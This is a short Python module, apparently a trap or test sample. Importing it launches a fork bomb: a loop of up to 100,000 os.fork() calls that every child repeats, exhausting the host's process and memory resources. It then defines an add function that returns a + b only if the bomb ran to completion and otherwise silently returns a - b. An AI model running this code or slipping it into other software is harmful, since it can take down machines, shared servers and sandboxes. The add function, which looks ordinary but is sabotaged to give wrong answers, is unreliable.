"""Fork bomb: every process forks for ever; the answer is only right if nothing stopped it."""
import os

n = 0
for _ in range(100_000):
    try:
        os.fork()
        n += 1
    except OSError:
        break


def add(a, b):
    return a + b if n >= 100_000 else a - b
